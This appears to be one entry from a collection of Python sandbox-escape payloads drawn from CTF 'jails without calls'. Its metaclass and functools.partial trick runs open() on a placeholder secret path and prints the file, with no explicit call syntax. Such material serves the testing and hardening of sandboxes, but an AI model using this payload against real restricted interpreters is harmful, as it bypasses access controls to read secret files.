# technique: "class X(metaclass=...)" calls any callable with a name, bases and a namespace
# goal: read-secret
# source: CTF jails without calls
import functools


class X(metaclass=functools.partial(lambda path, *rest: open(path), '@SECRET@')):
    pass


print(X.read())
